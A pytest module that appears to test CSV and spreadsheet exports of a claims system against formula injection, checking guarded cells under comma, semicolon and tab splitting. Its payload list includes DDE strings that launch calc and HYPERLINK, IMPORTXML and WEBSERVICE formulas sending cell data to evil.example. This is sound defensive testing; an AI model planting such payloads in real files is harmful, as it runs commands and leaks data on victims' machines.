"""No cell of a table that a spreadsheet opens is a formula, wherever it cuts the cells; the raw form keeps every byte.

The tables are read here as spreadsheets of different countries read them: cut at commas, at semicolons, at tabs.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from claims.export.csv_raw import written
from claims.export.csv_spreadsheet import harmless
from claims.export.table import NAMES
from claims.sheets import Fault, faults_as_csv
from claims.sheets.table import guarded, read_table
from tests.claims.export.conftest import decide, exported

__all__ = ["exported"]
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = [
    *(f"{sign}{COMMAND}" for sign in SIGNS),
    *(f"{before}={COMMAND}" for before in [*" \t\r\n\0\u00a0\u3000\u200b\ufeff", "  ", "\r\n"]),
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-",
    "=",
    '"=1+1',
    '""=1+1',
    f"harmless;={COMMAND}",
    f"harmless; ={COMMAND};more",
    f'harmless;"={COMMAND}',
    f'harmless";"={COMMAND}";"',
    f"harmless\t={COMMAND}",
    f"harmless\n={COMMAND}",
    f"harmless\r\n  @{COMMAND}",
    f"harmless;\u200b＝{COMMAND}",
    f'harmless","={COMMAND}',
]  # fmt: skip
PLAIN = ["-5", "-5.25", "About 43,000 people", "a = b", "x;y", "3 - 2", "a@b.example", "七条船；-", None, 7, "one\ntwo"]


def cells_of(table: str) -> Iterator[str]:
    """The cells as they are cut in different countries, with what a spreadsheet skips before a formula taken off."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter):
            yield from row
    yield from table.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n")  # quotation marks ignored


def is_formula(cell: str) -> bool:
    seen = "".join(sign for sign in cell if sign.isprintable()).strip().lstrip('"').strip()
    return seen[:1] in tuple(SIGNS) and not seen.rstrip('"').lstrip("-").replace(".", "", 1).isdecimal()


def as_spreadsheet(cell: str) -> str:
    return b"".join(written([["before", harmless(cell), "after"]])).decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_no_formula_however_the_cells_are_cut(payload):
    assert [cell for cell in cells_of(as_spreadsheet(payload)) if is_formula(cell)] == []


def test_as_it_is_nearly_every_payload_is_one():
    """The control: the same reading over the raw form."""
    raw = [b"".join(written([["before", payload, "after"]])).decode() for payload in PAYLOADS]
    assert sum(any(map(is_formula, cells_of(line))) for line in raw) >= len(PAYLOADS) - 3


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_raw_form_keeps_it_byte_by_byte(payload):
    line = b"".join(written([[payload]])).decode()
    assert next(csv.reader(io.StringIO(line, newline=""))) == [payload]


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_none_stays_as_it_is(cell):
    assert harmless(cell) == cell


def test_every_column_of_an_export_is_guarded(world, exported):
    """The words of a decision go through every format to the end."""
    payloads = [payload for payload in PAYLOADS if "\0" not in payload and "\r" not in payload]
    for payload in payloads[::4]:
        decide(world, rationale=payload)
    opened = exported("spreadsheet").decode("utf-8-sig")
    assert [cell for cell in cells_of(opened) if is_formula(cell)] == []
    assert len(list(csv.reader(io.StringIO(opened, newline="")))) == 2 * len(payloads[::4]) + 1
    raw = list(csv.reader(io.StringIO(exported("csv").decode(), newline="")))
    assert {row[NAMES.index("rationale")] for row in raw[1:]} == {payload.strip() for payload in payloads[::4]}
    cells = [cell for row in load_workbook(io.BytesIO(exported("xlsx"))).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}


@pytest.mark.parametrize("sign", SIGNS)
def test_the_faults_of_a_sheet_begin_with_no_formula_and_come_back_as_they_were(sign):
    payload = f"{sign}{COMMAND}"
    table = read_table(f'statement,value\n"{payload}",{sign}1\n'.encode())
    told = faults_as_csv(table, [Fault(2, "value", "wrong")])
    rows = csv.reader(io.StringIO(told.decode("utf-8-sig"), newline=""))
    assert [cell for row in rows for cell in row if is_formula(cell)] == []
    assert read_table(told).lines[0].cells[:2] == (payload, f"{sign}1")
    assert guarded(payload) == f"'{payload}"
